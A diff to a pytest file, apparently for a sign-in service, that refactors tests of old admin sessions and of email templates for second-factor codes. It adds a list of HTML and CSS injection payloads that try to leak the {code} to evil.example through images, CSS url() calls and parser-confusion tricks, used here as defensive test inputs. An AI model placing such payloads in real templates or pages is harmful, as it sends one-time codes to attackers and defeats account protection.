@@ -7,11 +7,10 @@ from identity.users.notices import Notice
 from interaction.connectors.models import Connector
 from interaction.experience import services as experience
 from interaction.experience.message_templates import CODES
-from tests.support import codes, management, operators
+from tests.support import codes, management
 from tests.support.factors import switch_on
 from tests.support.management import refusal_of, result_of
 from tests.support.old_tokens import is_refused
-from tests.support.site_sessions import age
 
 EMAIL, PHONE = "EmailVerificationCode", "PhoneVerificationCode"
 
@@ -101,16 +100,14 @@ class TestConnectors:
 
         result_of(thief.patch(f"/connectors/{sms}", enabled=False))
 
-    def test_attack_AP47_an_old_token_does_not_have_an_earlier_connector_send_them(self, acme, thief, path):
+    def test_attack_AP47_an_old_token_has_no_earlier_connector_send_them(self, thief, old_session, path):
         """Codes go through the newest enabled connector."""
-        session = operators.at(acme)
-        age(session)
         page = f"/admin/connectors/connector/{path.rpartition('/')[2]}/do"
 
         assert is_refused(thief.patch(path, enabled=False))
         assert is_refused(thief.delete(path))
         for operation in ("disable", "delete"):
-            asked = session.get(f"{page}/{operation}/").headers.get("Location", "")
+            asked = old_session.get(f"{page}/{operation}/").headers.get("Location", "")
             assert asked.startswith("/admin/confirm/")
 
 
@@ -122,12 +119,6 @@ class TestMessages:
     @pytest.fixture(autouse=True)
     def codes_by_email(self, acme):
         switch_on(acme, "Totp", EMAIL)
-
-    @pytest.fixture
-    def session(self, acme):
-        operator = operators.at(acme)
-        age(operator)
-        return operator
 
     def template(self, **more):
         template = {"purpose": "second_factor", "channel": "email", "language": "", "subject": "Hello"}
@@ -158,16 +149,16 @@ class TestMessages:
 
         result_of(self.send(thief, sms, *reversed(own), notice))
 
-    def test_attack_AP47_an_unattended_session_changes_none_either(self, acme, session):
+    def test_attack_AP47_an_unattended_session_changes_none_either(self, acme, old_session):
         with acme.active():
             pk = experience.current().pk
         page = f"/admin/experience/signinexperience/{pk}/do"
 
-        asked = session.get(f"{page}/message-second_factor-email-any/")
+        asked = old_session.get(f"{page}/message-second_factor-email-any/")
 
         assert asked.headers["Location"].startswith("/admin/confirm/")
         for other in ("second_factor-sms-any", f"{Notice.PASSWORD_CHANGED}-email-any"):
-            assert session.get(f"{page}/message-{other}/").status_code == 200
+            assert old_session.get(f"{page}/message-{other}/").status_code == 200
 
     @pytest.mark.parametrize(
         "html",
@@ -179,6 +170,16 @@ class TestMessages:
             "{code}<style/>p { background: url(https://evil.example/{code}) }</style>",
             "{code}<!--[if mso]><img src='https://evil.example/{code}'><![endif]-->",
             "{code}<img src='https://evil.example/{code}",
+            "{code}<style></stylex>{} body { background: url(https://evil.example/{code}) }</style>",
+            """{code}<a style='background: /* href="*/ url(https://evil.example/{code}) /*" */'>""",
+            """{code}<textarea><a href="</textarea><img src=https://evil.example/{code}>"></a>""",
+            """{code}<title><a href="</title><img src=https://evil.example/{code}>"></a>""",
+            """{code}<img a" src="https://evil.example/?x>{code}">""",
+            """{code}<img a==" src="https://evil.example/?x>{code}">""",
+            """{code}<img =" src="https://evil.example/?x>{code}">""",
+            """{code}<!--><img src="https://evil.example/?--> {code}">""",
+            """{code}<textarea><style></textarea><img src="</style> {code}">""",
+            """{code}<svg><![CDATA[><p b="]]><img src="https://evil.example/?>{code}">""",
         ],
     )
     def test_attack_AP47_nobody_has_pictures_tell_the_code(self, recent, html):
@@ -191,7 +192,24 @@ class TestMessages:
         [
             "<!DOCTYPE html><title>{code}</title><style>p > b { color: red }</style><b>{code}</b> 1 < 2",
             "<a href='https://app.example/enter?code={code}'>Enter {code}</a>",
+            "<td width=9 title='a>b'><a class=\"b\" href=https://app.example/{code} target=_blank>{code}</a>",
         ],
     )
     def test_people_may_read_it_and_follow_a_link_with_it(self, recent, html):
         result_of(self.send(recent, self.template(html=html)))
+
+    def test_a_template_of_an_earlier_release_does_not_stop_changes_of_others(self, acme, recent):
+        with acme.active():
+            row = experience.current()
+            row.message_templates = [self.template(html=self.PICTURE)]
+            row.save(update_fields=["message_templates"])
+        other = self.template(language="de")
+
+        result_of(
+            recent.patch("/sign-in-experience", message_templates=[self.template(html=self.PICTURE), other])
+        )
+        changed = [other, self.template(html=self.PICTURE, text="Changed: {code}")]
+        answer = recent.patch("/sign-in-experience", message_templates=changed)
+
+        assert "may contain {code} only" in refusal_of(answer, 400)
+        assert [error["field"] for error in answer.json()["errors"]] == ["message_templates[1].html"]
